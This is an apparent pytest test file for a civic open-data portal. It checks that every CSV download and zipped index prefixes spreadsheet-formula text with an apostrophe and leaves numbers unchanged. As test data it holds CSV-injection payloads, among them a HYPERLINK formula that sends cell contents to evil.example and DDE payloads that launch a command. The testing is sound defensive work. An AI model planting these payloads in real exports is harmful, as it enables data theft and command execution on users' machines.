"""No cell of any CSV the portal writes can run as a spreadsheet formula; numbers stay numbers."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest

from commitments.models import CocreationRequirement, Evidence
from council.models import Session
from opendata.datasets import DATASETS
from opendata.spreadsheets import FORMULA_STARTS, PLAIN_NUMBER, neutralise
from proposals.models import PublicMeeting
from tests.council.factories import AgreementFactory, AttendanceFactory, CouncilMemberFactory, MilestoneReviewFactory
from tests.factories import CommitmentFactory, MilestoneFactory, OrganizationFactory
from tests.proposals.factories import ProposalFactory, ZonalAdministrationFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Ver detalle")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\tx", "\rx", "-2+3+cmd|' /C calc'!A0"]


def runs_as_formula(cell):
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_would_start_a_formula_is_prefixed_with_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", [-3, 0, 7, -2.5, Decimal("-1.50"), "-3", "-0.75", "12", None, True, ""])
def test_numbers_stay_numbers(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["Más participación", "ECQTO0001", "2023-05-01", "a=b", "x-1", " =1+1"])
def test_ordinary_text_is_unchanged(value):
    assert neutralise(value) == value


@pytest.fixture
def hostile_world():
    """Staff notes and citizens' proposals written to attack whoever opens the downloads in a spreadsheet."""
    organization = OrganizationFactory(name=HYPERLINK, acronym="+1", slug="hostil")
    commitment = CommitmentFactory(
        code="ECQTO0009",
        lead=organization,
        title=DDE,
        problem="@SUM(A1:A9)",
        roadmap_validated_on=datetime.date(2023, 1, 9),
    )
    milestone = MilestoneFactory(commitment=commitment, order=1, title="\tx", means_of_verification="\rx")
    update = milestone.report(
        progress=100, note=DDE, evidence=[Evidence(title=HYPERLINK, url="https://example.org/informe")]
    )
    milestone.replan(due_on=datetime.date(2023, 9, 30), reason=HYPERLINK, by=None)
    member = CouncilMemberFactory(name="-2+3+cmd|' /C calc'!A0", organization=organization)
    review = MilestoneReviewFactory(milestone=milestone, update=update, note=HYPERLINK)
    AttendanceFactory(session=review.session, member=member)
    AgreementFactory(session=review.session, text=DDE)
    Session.objects.filter(pk=review.session.pk).update(place="\rx")
    zone = ZonalAdministrationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0", slug="zona-hostil")
    ProposalFactory(title=HYPERLINK, problem=DDE, solution="+1", response="@SUM(1+1)*cmd|' /C calc'!A0", zone=zone)
    PublicMeeting.objects.create(
        plan=commitment.plan, zone=zone, held_on=datetime.date(2026, 11, 20), place=HYPERLINK, summary=DDE
    )
    CocreationRequirement.objects.ensure_for(commitment.plan)
    CocreationRequirement.objects.filter(number="1.1").update(status="met", note=DDE, evidence_label=HYPERLINK)
    return commitment.plan


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row]


@pytest.mark.parametrize("dataset", DATASETS, ids=lambda dataset: dataset.slug)
def test_no_cell_of_any_download_runs_as_a_formula(client, hostile_world, dataset):
    response = client.get(f"/datos/{dataset.slug}.csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    found = cells(text)
    assert [cell for cell in found if runs_as_formula(cell)] == []
    assert any(cell.startswith("'") for cell in found) or dataset.slug in {"planes", "asistencia"}


def test_the_proposals_download_keeps_the_text_behind_the_apostrophe_and_the_json_untouched(client, hostile_world):
    text = b"".join(client.get("/datos/propuestas.csv").streaming_content).decode("utf-8")
    row = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert (row["title"], row["problem"], row["solution"]) == ("'" + HYPERLINK, "'" + DDE, "'+1")
    records = client.get("/api/v1/propuestas/").json()["results"]
    assert records[0]["title"] == HYPERLINK


def test_numbers_in_a_download_stay_numbers(client, hostile_world):
    text = b"".join(client.get("/datos/hitos.csv").streaming_content).decode("utf-8")
    row = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert row["order"] == "1" and row["progress"] == "100"


def test_no_cell_of_the_evidence_repository_index_runs_as_a_formula(client, hostile_world):
    url = f"/datos/repositorio/{hostile_world.slug}/"
    assert client.get(url).status_code == 503  # queues the build, which the test task backend runs at once
    response = client.get(url)
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    index = next(name for name in archive.namelist() if name.endswith("/indice.csv"))
    found = cells(archive.read(index).decode("utf-8"))
    assert [cell for cell in found if runs_as_formula(cell)] == []
    for neutralised in ("'\tx", "'" + DDE, "'" + HYPERLINK):
        assert neutralised in found
    assert "100" in found


def test_no_cell_of_the_report_zips_evidence_list_runs_as_a_formula(client, hostile_world):
    url = f"/planes/{hostile_world.slug}/informe.zip"
    response = client.get(url)
    if response.status_code == 503:  # queued the build, which the test task backend ran at once
        response = client.get(url)
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    found = cells(archive.read(next(name for name in archive.namelist() if name.endswith(".csv"))).decode("utf-8"))
    assert [cell for cell in found if runs_as_formula(cell)] == []
    assert "'" + HYPERLINK in found


@pytest.mark.parametrize(
    ("url", "sentence"),
    [
        ("/datos/", "lleva delante un apóstrofo (') para que las hojas de cálculo lo muestren como texto"),
        ("/en/datos/", "starts with an apostrophe (') so that spreadsheets show it as text"),
    ],
)
def test_the_open_data_page_explains_the_apostrophe(client, url, sentence):
    assert sentence in client.get(url).content.decode()
